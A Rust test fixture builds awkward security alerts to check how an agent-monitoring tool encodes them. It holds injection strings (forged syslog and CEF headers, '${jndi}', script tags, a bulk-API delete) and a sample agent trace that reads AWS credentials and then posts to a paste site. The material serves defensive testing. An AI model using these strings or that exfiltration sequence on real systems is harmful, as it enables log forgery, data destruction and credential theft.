//! One table of awkward alerts, which every encoding is tried on: each hostile text in every field where text can stand, nothing where nothing
//! may stand, too much where much may stand.

use calltrail::alert::{Alert, CallEvidence, Entity, Finding, Kind, Level, Observable};
use std::collections::BTreeMap;

/// Texts that break careless encoders, with a name for each.
pub(crate) const TEXTS: &[(&str, &str)] = &[
    ("empty", ""),
    ("blank", "   "),
    ("newlines", "one\ntwo\r\nthree\rfour\u{2028}five\u{85}six"),
    ("header", "x\n<105>1 2026-01-01T00:00:00Z evil evil - - - forged"),
    ("pipes", "a|b||c|CEF:0|evil|evil|1|1|forged|10|"),
    ("pairs", "a=b c=d rt=0 externalId=forged\tsev=10^sev=1"),
    ("backslashes", r"\ \\ \n \| \= \] C:\Users\x\"),
    ("brackets", "a] [evil@1 id=\"forged\"] {\"b\": [\"c\"]} {0} {{1}} ${jndi} [text](https://evil.example)"),
    ("quotes", "'a' OR \"b\" = `c`; -- \u{201c}d\u{201d}"),
    ("controls", "a\0b\x07\x08\x0c\x1b[31mred\x1b[0m\x7f\u{9b}2J"),
    ("bidirectional", "\u{202e}fdp.exe\u{202c}\u{2066}x\u{2069}\u{200f}"),
    ("hidden", "a\u{200b}b\u{feff}c\u{e0041}d\u{ad}e"),
    ("emoji", "👩‍👩‍👧 naïve ☃ 𝒳 日本語 :smile:"),
    ("slack", "<!channel> <!here> <@U1|x> <https://evil.example|click> @channel *b* _i_ ~s~ `c` &lt;!channel&gt;"),
    (
        "markdown",
        "**b** # h\n- l\n> q\n![i](https://evil.example/i.png) <at>x</at> {{{DATE(2026-01-01T00:00:00Z, SHORT)}}}",
    ),
    ("html", "<script>alert(1)</script><!-- --><img src=x onerror=y>&amp;"),
    ("bulk", "\"}}\n{\"delete\":{\"_id\":\"x\"}}\n"),
];

/// The alerts with what each is.
pub(crate) fn awkward() -> Vec<(String, Alert)> {
    let mut alerts: Vec<(String, Alert)> =
        TEXTS.iter().map(|(name, text)| ((*name).to_owned(), filled(text))).collect();
    alerts.push(("a megabyte".to_owned(), large(&"x".repeat(1 << 20))));
    alerts.push(("much to escape".to_owned(), large(&"\0".repeat(1 << 16))));
    alerts.push(("no calls".to_owned(), bare()));
    alerts.push(("many calls".to_owned(), many()));
    alerts.push(("plain".to_owned(), plain()));
    for level in Level::ALL {
        let mut alert = plain();
        alert.finding.level = level;
        alert.finding.kind = Kind::Model;
        alert.suppressed_by = Some("quiet hours".to_owned());
        alerts.push((level.as_str().to_owned(), alert));
    }
    let mut odd = plain();
    (odd.finding.first_seen, odd.finding.last_seen) = (i64::MAX, i64::MIN);
    odd.calls.iter_mut().for_each(|call| call.time = Some(i64::MIN));
    odd.calls.iter_mut().for_each(|call| call.source_line = Some(i64::MIN));
    odd.finding.score = Some(1e300);
    odd.superseded_by = Some("0".repeat(32));
    odd.resolved = Some("gone".to_owned());
    alerts.push(("times out of this world".to_owned(), odd));
    alerts
}

/// An alert as one would like them, with something in every field.
pub(crate) fn plain() -> Alert {
    let call = |n: u8, tool: &str, arguments: &str| CallEvidence {
        call_id: format!("{n:032x}"),
        time: Some(1_795_342_489_123_456 + i64::from(n) * 1_000_000),
        session_id: Some("s-204".into()),
        agent: Some("notes-agent".into()),
        user_id: Some("u-7".into()),
        server: Some("web".into()),
        tool: Some(tool.into()),
        method: "tools/call".into(),
        arguments: Some(arguments.into()),
        result_text: Some("ok".into()),
        outcome: "success".into(),
        approval: "auto_allowed".into(),
        source_file: Some("logs/2026-11-22.jsonl".into()),
        source_line: Some(12 + i64::from(n)),
    };
    let calls = vec![
        call(1, "read_file", r#"{"path":"/home/u/.aws/credentials"}"#),
        call(2, "http_post", r#"{"url":"https://paste.example/new?k=v&z=1"}"#),
    ];
    let finding = Finding {
        kind: Kind::Rule,
        rule_id: "secret_then_egress".into(),
        rule_title: "Secret read, then data sent out in the same session".into(),
        rule_version: "84d2".into(),
        rule_group: "exfiltration".into(),
        settings: serde_json::from_str(r#"{"params":{"min_bytes":256}}"#).expect("JSON"),
        level: Level::High,
        status: "stable".into(),
        tags: ["owasp.mcp10", "atlas.AML.T0086", "attack.T1567.002", "attack.T1552", "attack.exfiltration"]
            .map(String::from)
            .into(),
        description: "A credential was read and then data left.".into(),
        falsepositives: vec!["deploy jobs".into()],
        entity: Entity {
            session_id: Some("s-204".into()),
            agent: Some("notes-agent".into()),
            user_id: Some("u-7".into()),
            server: Some("web".into()),
            tool: Some("http_post".into()),
        },
        first_seen: 1_795_342_490_123_456,
        last_seen: 1_795_342_530_123_456,
        call_ids: calls.iter().map(|call| call.call_id.clone()).collect(),
        score: Some(0.86),
        message: Some("4312 bytes sent to paste.example 41 s after a credential was read".into()),
        evidence: serde_json::from_str(r#"{"bytes":4312,"destination":"paste.example"}"#).expect("JSON"),
    };
    let observables = [
        ("domain", "paste.example"),
        ("email", "eve@evil.example"),
        ("file_path", "/home/u/.aws/credentials"),
        ("hash", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
        ("ip", "203.0.113.77"),
        ("ip", "2001:db8::1"),
        ("url", "https://paste.example/new?k=v&z=1"),
        ("wallet", "bc1q"),
    ]
    .map(|(kind, value)| Observable { kind: kind.into(), value: value.into() });
    Alert::new(finding, calls, observables.into(), BTreeMap::from([("calls".to_owned(), 7)]))
}

/// The plain alert with one text wherever text can stand, but for the alert's id and Sigma's level.
pub(crate) fn filled(text: &str) -> Alert {
    let fill = || Some(text.to_owned());
    let mut alert = plain();
    let finding = &mut alert.finding;
    for field in [
        &mut finding.rule_id,
        &mut finding.rule_title,
        &mut finding.rule_version,
        &mut finding.rule_group,
        &mut finding.status,
        &mut finding.description,
    ] {
        text.clone_into(field);
    }
    finding.entity = Entity { session_id: fill(), agent: fill(), user_id: fill(), server: fill(), tool: fill() };
    finding.message = fill();
    for list in [&mut finding.tags, &mut finding.falsepositives, &mut finding.call_ids] {
        list.push(text.to_owned());
    }
    finding.tags.extend([format!("attack.{text}"), format!("odd.{text}")]);
    finding.evidence.insert(text.to_owned(), text.into());
    finding.evidence.insert("destination".to_owned(), text.into());
    finding.settings.insert(text.to_owned(), text.into());
    for call in &mut alert.calls {
        (call.session_id, call.agent, call.user_id) = (fill(), fill(), fill());
        (call.server, call.tool, call.source_file) = (fill(), fill(), fill());
        (call.arguments, call.result_text) = (fill(), fill());
        for field in [&mut call.method, &mut call.outcome, &mut call.approval] {
            text.clone_into(field);
        }
    }
    for kind in ["domain", "email", "file_path", "hash", "ip", "url", text] {
        alert.observables.push(Observable { kind: kind.into(), value: text.into() });
    }
    let mut alert = Alert::new(alert.finding, alert.calls, alert.observables, alert.lake_versions);
    (alert.suppressed_by, alert.resolved) = (fill(), fill());
    alert
}

/// The plain alert with a large text where rules and logs write most, also where an alert of ours would have been cut.
fn large(text: &str) -> Alert {
    let mut alert = filled(&text[..4096]);
    alert.finding.message = Some(text.to_owned());
    alert.finding.rule_title = text[..1 << 16].to_owned();
    alert.finding.evidence.insert("large".to_owned(), text[..1 << 16].into());
    alert.calls[0].arguments = Some(text.to_owned());
    alert
}

/// As little as an alert can have.
fn bare() -> Alert {
    let mut finding = plain().finding;
    (finding.call_ids, finding.tags, finding.falsepositives) = (vec![], vec![], vec![]);
    (finding.score, finding.message) = (None, None);
    (finding.entity, finding.evidence) = (Entity::default(), serde_json::Map::new());
    Alert::new(finding, vec![], vec![], BTreeMap::new())
}

/// More calls than an alert carries, and as much in each as it may have.
fn many() -> Alert {
    let mut alert = plain();
    let one = alert.calls[1].clone();
    let calls = (0..500u32).map(|n| CallEvidence {
        call_id: format!("{n:032x}"),
        time: one.time.map(|time| time + i64::from(n)),
        arguments: Some("<é\"".repeat(2000)),
        result_text: Some("\\".repeat(8000)),
        tool: Some(format!("tool_{n}")),
        ..one.clone()
    });
    let calls: Vec<CallEvidence> = calls.collect();
    alert.finding.call_ids = calls.iter().map(|call| call.call_id.clone()).collect();
    alert.finding.tags = (0..500).map(|n| format!("attack.T{:04}", 1000 + n)).collect();
    let observables = (0..500).map(|n| Observable { kind: "domain".into(), value: format!("h{n}.example") });
    Alert::new(alert.finding, calls, observables.collect(), BTreeMap::new())
}
